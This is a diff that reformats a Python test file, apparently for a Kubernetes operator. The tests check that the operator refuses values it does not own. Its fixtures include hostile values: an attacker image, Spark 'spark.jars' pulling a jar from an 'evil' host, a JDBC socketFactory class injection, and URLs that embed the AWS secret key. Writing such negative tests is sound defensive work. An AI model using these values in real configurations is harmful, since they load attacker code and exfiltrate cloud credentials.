@@ -1,4 +1,6 @@
-"""Each field of text of each kind is the resource's own, for a reason that stands here, or is held to a rule: wherever it is, and out of the box."""
+"""Each field of text of each kind is the resource's own, for a reason that stands here, or is held to a rule: wherever
+it is, and out of the box.
+"""
 
 import asyncio
 import typing
@@ -107,7 +109,11 @@ BEYOND: dict[Field, tuple[Any, ...]] = {
         {"container.apparmor.security.beta.kubernetes.io/bmq": "unconfined"},
         {"anything": ""},
     ),
-    (Placement, "labels"): ({"app": "payments"}, {"azure.workload.identity/use": "true"}, {"sidecar.istio.io/inject": "true"}),
+    (Placement, "labels"): (
+        {"app": "payments"},
+        {"azure.workload.identity/use": "true"},
+        {"sidecar.istio.io/inject": "true"},
+    ),
     (Placement, "tolerations"): (
         [{"operator": "Exists"}],
         [{"key": "node-role.kubernetes.io/control-plane", "operator": "Exists"}],
@@ -132,11 +138,18 @@ BEYOND: dict[Field, tuple[Any, ...]] = {
     ),
     (Table, "image"): ("evil.example/pwn:1",),
     (Table, "service_account"): ("admin-bot",),
-    (Table, "spark_conf"): ({"spark.jars": "http://evil/x.jar"}, {"spark.log.level": "${env:A}"}, {"spark.io.compression.codec": "evil.Codec"}),
+    (Table, "spark_conf"): (
+        {"spark.jars": "http://evil/x.jar"},
+        {"spark.log.level": "${env:A}"},
+        {"spark.io.compression.codec": "evil.Codec"},
+    ),
     (Table, "consumer_config"): ({"interceptor.classes": "evil.Class"},),
     (StoreAccess, "secret_name"): ("database",),
     (ConfigMapKey, "name"): ("vault",),
-    (Iceberg, "catalog_uri"): ("jdbc:postgresql://db/lake?socketFactory=evil.Class", "http://evil/${env.AWS_SECRET_ACCESS_KEY}"),
+    (Iceberg, "catalog_uri"): (
+        "jdbc:postgresql://db/lake?socketFactory=evil.Class",
+        "http://evil/${env.AWS_SECRET_ACCESS_KEY}",
+    ),
     (Table, "output"): ("s3a://b/${env.AWS_SECRET_ACCESS_KEY}",),
     (Table, "checkpoint"): ("s3a://b/${env.AWS_SECRET_ACCESS_KEY}",),
     (Table, "registry"): ("http://evil/${env.AWS_SECRET_ACCESS_KEY}",),
@@ -201,7 +214,8 @@ def test_every_field_of_text_has_a_rule_or_a_reason_for_none() -> None:
     found = {field for _, _, field in all_fields()}
     without = {f"{model.__name__}.{name}" for model, name in found - OWN.keys() - RULES.keys()}
     assert not without, (
-        "say in borrowed.RULES by which rule of the chart they may name what is not the resource's own, or in OWN of this test why they need none"
+        "say in borrowed.RULES by which rule of the chart they may name what is not the resource's own, or in OWN "
+        "of this test why they need none"
     )
     assert OWN.keys() <= found, "these are gone, or have a rule now"
     assert RULES.keys() <= found, "these are gone"
@@ -220,16 +234,24 @@ def refused(kind: KindOfATest, path: tuple[str, ...], field: Field, value: Any, 
 
 
 @pytest.mark.parametrize(("kind", "path", "field", "value"), list(beyond_of({one.name for one in KINDS})))
-def test_what_is_not_its_own_is_refused_wherever_a_kind_has_the_field(kind: KindOfATest, path: tuple[str, ...], field: Field, value: Any) -> None:
+def test_what_is_not_its_own_is_refused_wherever_a_kind_has_the_field(
+    kind: KindOfATest, path: tuple[str, ...], field: Field, value: Any
+) -> None:
     [found] = refused(kind, path, field, value, Allowed())
     named = found.field if isinstance(found, Named) else found.partition(":")[0]
     assert named == ".".join(path).replace(".*", "[0]")
-    is_nobodys = isinstance(found, str) and (("bmq's chart" not in found and field[1] == "env") or "would be a variable" in found)
+    is_nobodys = isinstance(found, str) and (
+        ("bmq's chart" not in found and field[1] == "env") or "would be a variable" in found
+    )
     assert isinstance(found, Named) or is_nobodys or "bmq's chart" in found or "write jdbc:" in found
-    everything = Allowed(**dict.fromkeys(Allowed.model_fields, ("*",)) | {"spark_conf": ("*", "spark.io.compression.codec")})
+    everything = Allowed(
+        **dict.fromkeys(Allowed.model_fields, ("*",)) | {"spark_conf": ("*", "spark.io.compression.codec")}
+    )
     is_object = field[1] in ("pull_secrets", "secret_name", "service_account", "name")
     code = field in ((Table, "consumer_config"),)
-    assert bool(refused(kind, path, field, value, everything)) == (is_object or code or is_nobodys), "the chart can allow it"
+    assert bool(refused(kind, path, field, value, everything)) == (is_object or code or is_nobodys), (
+        "the chart can allow it"
+    )
 
 
 def test_each_rule_is_tried() -> None:
@@ -257,7 +279,9 @@ def test_nothing_is_made_of_a_cluster_that_reaches_for_what_is_not_its_own(
 
 
 @pytest.mark.parametrize(("kind", "path", "field", "value"), list(beyond_of({"ParquetSink"})))
-def test_nothing_is_made_of_a_table_that_reaches_for_what_is_not_its_own(kind: KindOfATest, path: tuple[str, ...], field: Field, value: Any) -> None:
+def test_nothing_is_made_of_a_table_that_reaches_for_what_is_not_its_own(
+    kind: KindOfATest, path: tuple[str, ...], field: Field, value: Any
+) -> None:
     async def use(world: World) -> None:
         spec = {**kind.base(".".join(path)), "store": {}, **spec_with(path, field, value)}
         if path[0] == "iceberg":
@@ -276,18 +300,29 @@ def test_a_topics_table_is_named_as_it_stands_there() -> None:
     spec = kind.spec.model_validate({"parquet": {**kind.base("parquet")["parquet"], "sparkConf": {"spark.jars": "x"}}})
     assert isinstance(spec, TopicSpec) and spec.parquet is not None
     allow, own = Allowed(), Own(images=())
-    found = asyncio.run(why_not_allowed(KubeOfATest(), spec.parquet, namespace="shop", allow=allow, own=own, path="parquet"))  # type: ignore[arg-type]
+    found = asyncio.run(
+        why_not_allowed(KubeOfATest(), spec.parquet, namespace="shop", allow=allow, own=own, path="parquet")
+    )  # type: ignore[arg-type]
     assert found is not None and found.message.startswith("parquet.sparkConf: spark.jars is none")
 
 
 def test_what_is_usual_needs_no_leave() -> None:
     placement = {
         "annotations": {"prometheus.io/scrape": "true"},
-        "tolerations": [{"key": "node.kubernetes.io/unreachable", "operator": "Exists", "effect": "NoExecute", "tolerationSeconds": 5}],
+        "tolerations": [
+            {
+                "key": "node.kubernetes.io/unreachable",
+                "operator": "Exists",
+                "effect": "NoExecute",
+                "tolerationSeconds": 5,
+            }
+        ],
         "env": [{"name": "BMQ_FLUSH_BYTES", "value": "8MiB"}, {"name": "TZ", "value": "UTC"}],
         "nodeSelector": {"pool": "queues"},
     }
     annotations = {"service.beta.kubernetes.io/aws-load-balancer-internal": "true"}
     listeners = [{"name": "outside", "type": "LoadBalancer", "annotations": annotations}]
-    spec = ClusterSpec.model_validate({"store": {"minio": {"embedded": True}}, "brokers": {"placement": placement}, "listeners": listeners})
+    spec = ClusterSpec.model_validate(
+        {"store": {"minio": {"embedded": True}}, "brokers": {"placement": placement}, "listeners": listeners}
+    )
     assert [one for one in reaches(spec, allow=Allowed(), own=Own(images=())) if one] == []
